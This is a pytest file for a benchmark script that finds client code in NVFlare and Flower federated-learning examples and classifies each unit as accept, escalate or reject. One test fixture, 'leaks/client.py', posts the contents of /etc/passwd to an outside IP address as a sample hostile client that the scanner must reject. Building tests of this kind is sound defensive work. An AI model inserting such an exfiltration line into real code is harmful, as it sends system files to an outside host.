"""bench/fl_examples.py: units as a site sees them, and what it reports.

The measurement on NVFlare's and Flower's examples (docs/fl-examples.md)
stands on these rules; each test builds a small corpus on disk and runs the
real script or its unit finder."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from conftest import ROOT

sys.path.insert(0, str(ROOT / "bench"))

import fl_examples  # noqa: E402

CLIENT = "import nvflare.client as flare\nfrom model import Net\nflare.init()\nnet = Net()\n"
NET = "import torch\nclass Net(torch.nn.Module):\n    pass\n"


def _write(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def test_a_client_script_and_the_modules_it_imports_from_the_examples_src_folder(tmp_path):
    _write(tmp_path, {
        "cifar/sim/fedavg/client.py": CLIENT,
        "cifar/sim/fedavg/job.py": "from nvflare.client.config import ExchangeFormat\nfrom nvflare.recipe import SimEnv\n",
        "cifar/src/model.py": NET,
        "cifar/src/unused.py": "import os\n",
    })
    units = fl_examples.find_units(tmp_path)
    assert [u.key for u in units] == ["cifar/sim/fedavg"]
    # placed at their import paths, as NVFlare's Job API places them under custom/
    assert sorted(units[0].files) == ["client.py", "model.py"]


def test_relative_imports_and_packages_come_with_their_init(tmp_path):
    _write(tmp_path, {
        "ex/client.py": "import nvflare.client as flare\nfrom pkg.nets import Net\n",
        "ex/pkg/__init__.py": "",
        "ex/pkg/nets.py": "from .layers import Block\nclass Net:\n    pass\n",
        "ex/pkg/layers.py": "class Block:\n    pass\n",
    })
    (unit,) = fl_examples.find_units(tmp_path)
    assert sorted(unit.files) == ["client.py", "pkg/__init__.py", "pkg/layers.py", "pkg/nets.py"]


def test_flower_client_is_told_by_code_not_by_a_comment(tmp_path):
    _write(tmp_path, {
        "fl/app/client_app.py": "from flwr.clientapp import ClientApp\napp = ClientApp()\n",
        "fl/app/server_app.py": '"""Sends messages to the `ClientApp`s."""\nfrom flwr.serverapp import ServerApp\n',
    })
    (unit,) = fl_examples.find_units(tmp_path)
    assert sorted(unit.files) == ["client_app.py"]


def test_an_exported_job_folder_is_one_unit_as_it_is(tmp_path):
    _write(tmp_path, {
        "jobs/hello/meta.json": "{}",
        "jobs/hello/app/config/config_fed_client.json": "{}",
        "jobs/hello/app/custom/client.py": CLIENT,
    })
    (unit,) = fl_examples.find_units(tmp_path)
    assert unit.key == "jobs/hello" and unit.whole == (tmp_path / "jobs/hello").resolve()


def test_the_script_reports_decisions_rejects_and_the_apis_behind_escalations(tmp_path):
    corpus = tmp_path / "examples"
    _write(corpus, {
        "plain/client.py": CLIENT,
        "plain/model.py": NET,
        "saves/client.py": CLIENT + "import torch\ntorch.save(net.state_dict(), '~/model.pt')\n",
        "saves/model.py": NET,
        "leaks/client.py": "import nvflare.client as flare, requests\nrequests.post('https://203.0.113.9/x', data=open('/etc/passwd').read())\n",
    })
    proc = subprocess.run([sys.executable, str(ROOT / "bench" / "fl_examples.py"), str(corpus), "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    report = json.loads((tmp_path / "out" / f"{tmp_path.name}-examples.json").read_text())
    decisions = {k: v["decision"] for k, v in report["per_unit"].items()}
    assert decisions == {"plain": "accept", "saves": "escalate", "leaks": "reject"}
    assert ["torch.save", 1] in report["top_unvouched"]
    assert report["rejects"][0]["unit"] == "leaks" and report["rejects"][0]["findings"]
    assert 0 < report["coverage"] < 100
    assert "REJECT leaks" in proc.stdout and "| `torch.save` | 1 |" in proc.stdout
